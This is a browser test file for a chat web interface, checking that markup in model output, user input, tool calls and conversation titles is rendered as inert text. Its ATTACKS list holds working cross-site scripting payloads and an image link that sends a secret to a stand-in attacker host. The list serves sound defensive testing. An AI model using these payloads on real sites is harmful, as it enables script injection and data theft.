import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import {
  answers,
  ask,
  endedAnswers,
  expectQuiet,
  hasBrowser,
  openPage,
  scriptedServer,
  useBrowser,
} from "../../support/page-in-browser.js";

/** Texts that run, load or navigate if treated as markup. */
const ATTACKS = [
  "<script>window.pwned = 1</script>",
  '<img src="x" onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"></svg>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<a href="javascript:window.pwned = 1">a</a>',
  "[click](javascript:window.pwned=1)",
  "[click](JaVaScRiPt&#58;window.pwned=1)",
  "[click](data:text/html,<script>opener.pwned=1</script>)",
  "![leak](https://evil.example/?secret=1)",
  '![x](x" onerror="window.pwned=1)',
  '```"><img src=x onerror=window.pwned=1>\ncode </code><script>window.pwned=1</script>\n```',
  "```js\n</span><img src=x onerror=window.pwned=1>\n```",
  "$\\href{javascript:window.pwned=1}{x}$ $\\text{<img src=x onerror=window.pwned=1>}$",
  "$$\\raisebox{-3000px}{\\rule{9000px}{9000px}}\\class{notice}{x}\\htmlStyle{position:fixed}{x}$$",
  "$$\\raisebox{-3000px}{\\rule{9000px}{9000px}}$$",
  "$$\\begin{array}{r}\\hspace{-90em}\\url{javascript:window.pwned=1}\\end{array}$$",
  "1000000000. a\n2. b",
  '| a |\n| - |\n| <img src=x onerror="window.pwned=1"> |',
  "<style>* { display: none }</style><form action=//evil.example><input name=q></form>",
  '<math><mtext><style><img src=x onerror="window.pwned=1"></style></mtext></math>',
].join("\n\n");

async function expectHarmless(page: Page, within: string): Promise<void> {
  const found = await page
    .locator(within)
    .first()
    .evaluate((element) => ({
      active: [
        ...element.querySelectorAll(
          "script, iframe, object, embed, style, form[action], [src], [srcdoc], [style]:not(textarea)",
        ),
      ].map(({ outerHTML }) => outerHTML),
      handlers: [...element.querySelectorAll("*")].flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => name.startsWith("on")),
      ),
      links: [...element.querySelectorAll("[href]")].map((link) => link.getAttribute("href")),
    }));
  expect(found.active).toEqual([]);
  expect(found.handlers).toEqual([]);
  for (const link of found.links) expect(link).toMatch(/^(?:https?:\/\/|#\/)/);
  expect(await page.evaluate("window.pwned")).toBeUndefined();
  // No element extends beyond the text.
  await page.getByLabel("Your message").click({ trial: true });
}

describe.skipIf(!hasBrowser)("markup in untrusted text", () => {
  useBrowser();

  it("from the model and from the user is shown as text", async () => {
    const { url } = await scriptedServer(() => ({ parts: [{ reasoning: ATTACKS }, ATTACKS] }));
    const opened = await openPage(url);
    const { page } = opened;
    await ask(page, ATTACKS);
    await endedAnswers(page);
    await page.getByText("Thoughts").click();
    // Modules that render formulas and colour code are loaded on demand.
    await page.locator(".answer math").first().waitFor();
    await page
      .locator(".answer .hljs-tag, .answer .hljs-name, .answer .hljs-string")
      .first()
      .waitFor({ state: "attached" })
      .catch(() => undefined);
    await expectHarmless(page, ".thread");
    await expectHarmless(page, ".conversation-list");
    expect(await page.locator(".thread").innerText()).toContain(
      "<script>window.pwned = 1</script>",
    );
    for (const link of await page.locator(".thread a[href^=http]").all()) {
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    }
    expectQuiet(opened);
  });

  it("is never executed while an answer is streamed", async () => {
    const { url } = await scriptedServer(() => ({ parts: ATTACKS.match(/[\s\S]{1,9}/g) ?? [] }));
    const opened = await openPage(url);
    await ask(opened.page, "Go");
    await endedAnswers(opened.page);
    await expectHarmless(opened.page, ".thread");
    expectQuiet(opened);
  });

  it("is shown as text in tool calls and their results", async () => {
    const call = { id: "call_1", name: "look", arguments: JSON.stringify({ a: ATTACKS }) };
    const { url } = await scriptedServer(
      answers({ parts: [{ call }], ending: "tool-calls" }, { parts: ["Done."] }),
    );
    const { page } = await openPage(url);
    await page.getByRole("button", { name: "Chat settings" }).click();
    await page
      .getByLabel("Tools (JSON)")
      .fill('[{"type":"function","name":"look","parameters":{"type":"object"}}]');
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("status").getByText("Saved").waitFor();
    await ask(page, "Look");
    await page.getByLabel("Tool result").fill(ATTACKS);
    await page.getByRole("button", { name: "Send result" }).click();
    await page.locator(".answer", { hasText: "Done." }).waitFor();
    await expectHarmless(page, ".thread");
  });

  it("is shown as text in titles and other metadata of conversations", async () => {
    const { url } = await scriptedServer();
    const metadata = { title: ATTACKS.slice(0, 500), model: '"><script>window.pwned=1</script>' };
    const items = [
      { role: "user", content: [{ type: "input_image", image_url: "https://evil.example/x.png" }] },
    ];
    const created = await fetch(`${url}/v1/conversations`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ metadata, items }),
    });
    const { id } = (await created.json()) as { readonly id: string };
    const opened = await openPage(url);
    await opened.page.goto(`${url}/#/chat/${id}`);
    await opened.page.locator(".question").waitFor();
    await expectHarmless(opened.page, ".chat-view");
    expect(await opened.page.locator(".question").innerText()).toContain(
      "https://evil.example/x.png",
    );
    expectQuiet(opened);
  });
});
